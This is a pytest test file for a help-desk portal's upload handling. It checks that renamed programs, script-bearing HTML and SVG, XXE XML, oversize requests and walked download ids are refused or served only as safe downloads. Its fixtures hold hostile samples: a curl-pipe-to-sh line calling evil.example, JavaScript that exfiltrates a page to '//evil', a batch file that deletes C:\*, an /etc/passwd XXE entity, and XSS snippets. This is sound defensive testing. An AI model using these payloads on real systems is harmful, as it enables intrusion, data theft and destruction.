"""Hostile uploads against every form that takes files (the complaint form as guest and
customer, the customer's reply as guest and customer, the agent's reply and internal note):
renamed programs, pages and SVG, oversize files and requests, too many or empty files.

Each check runs a table of cases through every route and collects every wrong answer, so one
run shows them all. A file is either refused (the form comes back with the user's text kept,
nothing stored, nothing on disk) or stored and then served only as a download that cannot run
or render: `attachment`, nosniff, a CSP sandbox and the type its bytes are, never the name's
or the client's. File names have their own table in test_upload_names.py.
"""

from __future__ import annotations

import html
import io
import re
import zipfile

import pytest

from portal.domain.attachments import MAX_BYTES, MAX_PER_MESSAGE
from tests.security_figures import record_figure
from tests.web.upload_support import (
    KEPT_TEXT,
    PDF,
    counts,
    download_problems,
    download_url,
    files_on_disk,
    try_upload,
    upload_routes,
)

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(46) + b"PE\x00\x00" + bytes(64)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
SHELL = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
JS = b"fetch('/agent').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
XHTML = (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
         b"<script>alert(1)</script></body></html>")
SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(2)</script></svg>")
XML = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
PADDED_HTML = b"a" * 5000 + b"\n<html><script>alert(1)</script></html>"
NAMESPACED_SCRIPT = (b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>')
HEAD_PAGE = b"<head><title>Your invoice</title><meta http-equiv=refresh content='0;url=//e'>"


def _zip(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return buffer.getvalue()


JAR = _zip({"META-INF/MANIFEST.MF": "Main-Class: Evil\n", "Evil.class": "\xca\xfe\xba\xbe"})

# (what it is, its name, its bytes, the Content-Type the client claims, must it be refused)
HOSTILE = [
    ("PE program as a PDF", "invoice.pdf", PE, "application/pdf", True),
    ("PE program as a photo", "photo.jpg", PE, "image/jpeg", True),
    ("PE program", "setup.exe", PE, "application/octet-stream", True),
    ("ELF program as a PDF", "invoice.pdf", ELF, "application/pdf", True),
    ("ELF program as text", "notes.txt", ELF, "text/plain", True),
    ("shell script", "fix.sh", SHELL, "text/x-sh", True),
    ("shell script as a PDF", "invoice.pdf", SHELL, "application/pdf", True),
    ("batch file", "run.bat", b"@echo off\r\ndel /q C:\\*\r\n", "text/plain", True),
    ("JavaScript", "app.js", JS, "text/javascript", True),
    ("JavaScript as a photo", "photo.jpg", JS, "image/jpeg", True),
    ("jar", "app.jar", JAR, "application/java-archive", True),
    ("jar as a PDF", "invoice.pdf", JAR, "application/pdf", True),
    ("zip as a Word file", "letter.docx", JAR, "application/zip", True),
    ("HTML page", "page.html", HTML, "text/html", True),
    ("HTML page as a PNG", "photo.png", HTML, "image/png", True),
    ("HTML page as text", "notes.txt", HTML, "text/plain", True),
    ("HTML after 5,000 bytes of text", "notes.txt", PADDED_HTML, "text/plain", True),
    ("a page's head as text", "notes.txt", HEAD_PAGE, "text/plain", True),
    ("XHTML", "page.xhtml", XHTML, "application/xhtml+xml", True),
    ("XHTML as text", "notes.txt", XHTML, "text/plain", True),
    ("namespaced script as text", "notes.txt", NAMESPACED_SCRIPT, "text/plain", True),
    ("SVG with a script", "image.svg", SVG, "image/svg+xml", True),
    ("SVG as a PNG", "image.png", SVG, "image/png", True),
    ("SVG as text", "image.txt", SVG, "text/plain", True),
    ("XML", "data.xml", XML, "application/xml", True),
    ("XML as text", "data.txt", XML, "text/plain", True),
    # Real files behind a lying Content-Type: stored and served as their bytes say.
    ("a PDF claimed to be HTML", "receipt.pdf", PDF, "text/html", False),
    ("a PNG claimed to be SVG", "screen.png", PNG, "image/svg+xml", False),
    ("a shell script as plain text", "notes.txt", SHELL, "text/html", False),
    ("a PDF with HTML inside", "receipt.pdf", PDF + HTML, "application/pdf", False),
]


@pytest.fixture
def routes(app, make_user, now):
    return upload_routes(app, make_user, now)


def test_renamed_programs_pages_and_svg_are_refused_or_only_downloaded(app, routes, tmp_path):
    """Every case on every route: refused, or (the real files with a lying Content-Type)
    stored and served as a download of the type its bytes are."""
    problems, unsafe = [], 0
    for route in routes:
        for label, name, content, claimed, must_refuse in HOSTILE:
            outcome, found, stored = try_upload(app, route, [(name, content, claimed)], tmp_path)
            if outcome == "stored" and must_refuse:
                found.append("stored, should be refused")
            for row in stored:
                served = download_problems(route.client.get(download_url(row.id)), content,
                                           row.original_name)
                unsafe += bool(served)
                found += served
            problems += [f"{route.name}, {label} ({outcome}): {p}" for p in found]
    tried = len(HOSTILE) * len(routes)
    record_figure("Inputs", f"hostile files tried on {len(routes)} routes",
                  f"{tried} cases, {unsafe} served unsafely", "refused or attachment + nosniff",
                  unsafe == 0 and not problems)
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(problems)


def test_a_real_file_is_stored_and_served_as_a_safe_download_on_every_route(
        app, routes, tmp_path):
    """The control case: what the checks above refuse is not simply everything."""
    for route in routes:
        outcome, found, stored = try_upload(app, route, [("Hóa đơn.pdf", PDF, "application/pdf"),
                                                   ("screen.png", PNG, "image/png")], tmp_path)
        assert (outcome, found) == ("stored", []), route.name
        assert [row.original_name for row in stored] == ["Hóa đơn.pdf", "screen.png"]
        for row, content in zip(stored, (PDF, PNG), strict=True):
            response = route.client.get(download_url(row.id))
            assert download_problems(response, content, row.original_name) == [], route.name


def _over_the_request_limit(limit: int) -> list[tuple[str, bytes, str]]:
    """Five files of the most each may be, and a sixth that fills the request's limit: the
    form fields around them take it over by a few hundred bytes."""
    files = [(f"part{n}.txt", b"a" * MAX_BYTES, "text/plain") for n in range(MAX_PER_MESSAGE)]
    used = sum(len(content) for _name, content, _type in files)
    return [*files, ("last.txt", b"b" * (limit - used), "text/plain")]


# (what it is, the files given the request limit, sent without a Content-Length)
OVERSIZE_REQUESTS = [
    ("a request over the limit", _over_the_request_limit, False),
    ("a chunked request over the limit", _over_the_request_limit, True),
    # Werkzeug's MAX_FORM_PARTS (1,000): thousands of tiny files cost the parser, not the disk.
    ("1,001 tiny files", lambda _limit: [(f"r{n}.txt", b"x", "text/plain")
                                          for n in range(1001)], False),
]


def test_oversize_files_and_requests_store_nothing(app, routes, tmp_path):
    """One byte over the 10 MB a file may be: the form again, with its text and a message (a
    help desk keeps what the customer wrote). Just over the whole request's 51 MB: the
    friendly 413 page, also when it comes chunked, without a Content-Length, or as a
    thousand parts. None leaves a row or a file."""
    limit = app.config["MAX_CONTENT_LENGTH"]
    problems, answered = [], 0
    for route in routes:
        outcome, found, _stored = try_upload(
            app, route, [("big.txt", b"a" * (MAX_BYTES + 1), "text/plain")], tmp_path,
            refusal="“big.txt” is larger than 10 MB")
        problems += [f"{route.name}, file one byte over ({outcome}): {p}" for p in found]
        if outcome != "refused":
            problems.append(f"{route.name}: a file one byte over the limit was {outcome}")
        for label, files, chunked in OVERSIZE_REQUESTS:
            before, disk = counts(), files_on_disk(tmp_path)
            response = route.post(files(limit), chunked=chunked)
            page = html.unescape(response.get_data(as_text=True))
            if response.status_code == 413 and "larger than we accept" in page:
                answered += 1
            else:
                problems.append(f"{route.name}: {label} answered {response.status_code}")
            if counts() != before or files_on_disk(tmp_path) - disk:
                problems.append(f"{route.name}: {label} stored something")
    tried = len(routes) * len(OVERSIZE_REQUESTS)
    record_figure("Inputs", "oversize requests answered 413 (friendly page)",
                  f"{answered} of {tried} ({len(routes)} routes)", "413, nothing stored",
                  answered == tried and not problems)
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize(("files", "message"), [
    ([(f"receipt{n}.pdf", PDF, "application/pdf") for n in range(MAX_PER_MESSAGE + 1)],
     "Attach at most 5 files"),
    ([("empty.pdf", b"", "application/pdf")], "empty"),
    ([("receipt.pdf", PDF, "application/pdf"), ("empty.txt", b"", "text/plain")], "empty"),
])
def test_too_many_or_empty_files_are_refused_with_nothing_stored(app, routes, tmp_path, files,
                                                                 message):
    problems = []
    for route in routes:
        before, disk = counts(), files_on_disk(tmp_path)
        response = route.post(files)
        page = html.unescape(response.get_data(as_text=True))
        if response.status_code != 422 or message not in page or KEPT_TEXT not in page:
            problems.append(f"{route.name}: answered {response.status_code}")
        stored = counts()[0] - before[0]
        # The complaint form keeps the good files of a refused try (staged for the next one).
        allowed = 1 if route.path == "/complaints/new" and len(files) == 2 else 0
        if stored != allowed or counts()[1] != before[1]:
            problems.append(f"{route.name}: {stored} files stored")
        if len(files_on_disk(tmp_path) - disk) != allowed:
            problems.append(f"{route.name}: files left on disk")
    assert not problems, "\n".join(problems)


def test_download_addresses_carry_a_key_and_a_walked_id_gets_nothing(app, routes, tmp_path):
    """Ids are sequential; the address the page links also holds a key made from the id with
    the secret key. The right browser with the bare id, a neighbour's key or a mangled key
    gets the same 404 as for an unknown file (osTicket #2615 walked ids)."""
    route = routes[2]  # the guest's reply: the browser may see the file
    _outcome, _found, stored = try_upload(app, route, [("receipt.pdf", PDF, "application/pdf")] * 2,
                                    tmp_path)
    first, second = (row.id for row in stored)
    page = route.client.get(route.page).get_data(as_text=True)
    linked = re.findall(r'href="(/attachments/\d+\?key=[^"]+)"', page)
    assert html.unescape(linked[0]) == download_url(first)
    key = download_url(first).split("key=")[1]
    assert len(key) >= 24 and key != download_url(second).split("key=")[1]
    walked = [f"/attachments/{first}", f"/attachments/{first}?key=",
              f"/attachments/{first}?key={download_url(second).split('key=')[1]}",
              f"/attachments/{first}?key={key[:-1]}", f"/attachments/{first}?key={key}x",
              f"/attachments/{first}?key=%00%ff", f"/attachments/{first + 1000}?key={key}"]
    served = [address for address in walked if route.client.get(address).status_code != 404]
    assert route.client.get(download_url(first)).status_code == 200
    record_figure("Inputs", "download addresses without the file's key that served it",
                  f"{len(served)} of {len(walked)}", "0 (ids alone cannot be walked)",
                  not served)
    assert served == []
